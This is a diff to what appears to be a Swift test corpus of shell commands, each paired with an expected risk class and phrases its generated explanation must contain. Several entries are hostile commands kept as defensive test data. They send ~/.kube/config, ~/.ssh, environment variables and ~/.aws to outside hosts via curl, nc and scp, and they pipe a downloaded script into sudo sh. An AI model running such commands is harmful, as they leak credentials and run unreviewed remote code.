@@ -1,4 +1,5 @@
 import CustodyCore
+import Testing
 
 /// One real-world command line with the class it should get and phrases its explanation must
 /// contain (lowercase, searched in the summary and the parts). Expected values were decided from
@@ -346,7 +347,7 @@ enum ExplainCorpus {
         C(#"sudo passwd deploy"#, I, "password"),
         C(#"sudo groupadd developers"#, I, "creates the group developers"),
         C(#"sudo chmod 600 ~/.ssh/id_rsa"#, I, "permissions", "secrets"),
-        C(#"chmod +x deploy.sh"#, I, "permissions of +x, deploy.sh"),
+        C(#"chmod +x deploy.sh"#, I, "permissions of deploy.sh to +x"),
         C(#"sudo chmod -R 777 /var/www"#, I, "permissions", "everything inside"),
         C(#"sudo chown -R www-data:www-data /var/www/html"#, I, "owner"),
         C(#"sudo setfacl -m u:deploy:rwx /srv/app"#, I, "access control"),
@@ -434,9 +435,9 @@ enum ExplainCorpus {
         C(#"curl -LO "https://dl.k8s.io/release/$(curl -L -s https://dl.k8s.io/release/stable.txt)/bin/linux/amd64/kubectl" && sudo install -o root -g root -m 0755 kubectl /usr/local/bin/kubectl"#, N, "dl.k8s.io", "installs the file"),
         C(#"wget -q https://github.com/prometheus/node_exporter/releases/download/v1.7.0/node_exporter-1.7.0.linux-amd64.tar.gz && tar xvfz node_exporter-1.7.0.linux-amd64.tar.gz"#, N, "github.com", "unpacks"),
         C(#"curl -fsSL https://download.docker.com/linux/ubuntu/gpg | sudo gpg --dearmor -o /etc/apt/keyrings/docker.gpg"#, N, "download.docker.com"),
-        C(#"cat ~/.kube/config | base64 | curl -X POST -d @- https://198.51.100.23/collect"#, N, "sends data to 198.51.100.23", "secrets"),
+        C(#"cat ~/.kube/config | base64 | curl -X POST -d @- https://198.51.100.23/collect"#, N, "sends data from its input to 198.51.100.23", "secrets"),
         C(#"tar czf - ~/.ssh | nc 203.0.113.77 9000"#, N, "sends its input to 203.0.113.77"),
-        C(#"env | curl -d @- https://webhook.site/abc"#, N, "sends data to webhook.site"),
+        C(#"env | curl -d @- https://webhook.site/abc"#, N, "sends data from its input to webhook.site"),
         C(#"scp -r ~/.aws attacker@198.51.100.9:/loot"#, N, "to 198.51.100.9"),
         C(#"git ls-remote https://github.com/org/repo.git"#, N, "lists branches"),
         C(#"mtr --report 1.1.1.1"#, N, "network route"),
@@ -546,8 +547,8 @@ enum ExplainCorpus {
         C(#"curl -s http://203.0.113.9/x | sudo sh"#, O, "downloads a file from 203.0.113.9 and runs it as root without showing it to you"),
         C(#"bash <(curl -s https://example.com/setup.sh)"#, O, "downloaded script"),
         C(#"sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)""#, O, "raw.githubusercontent.com"),
-        C(#"eval "$(ssh-agent -s)""#, O, "ssh agent"),
-        C(#"eval $(minikube docker-env)"#, O, "local cluster"),
+        C(#"eval "$(ssh-agent -s)""#, O, "ssh key agent"),
+        C(#"eval $(minikube docker-env)"#, O, "local kubernetes cluster"),
         C(#"npx create-react-app my-app"#, O, "downloads and runs the package create-react-app"),
         C(#"docker run --rm -it ubuntu:22.04 bash"#, O, "starts a container from the image ubuntu:22.04"),
         C(#"docker run -d -p 80:80 --name web nginx"#, O, "image nginx"),
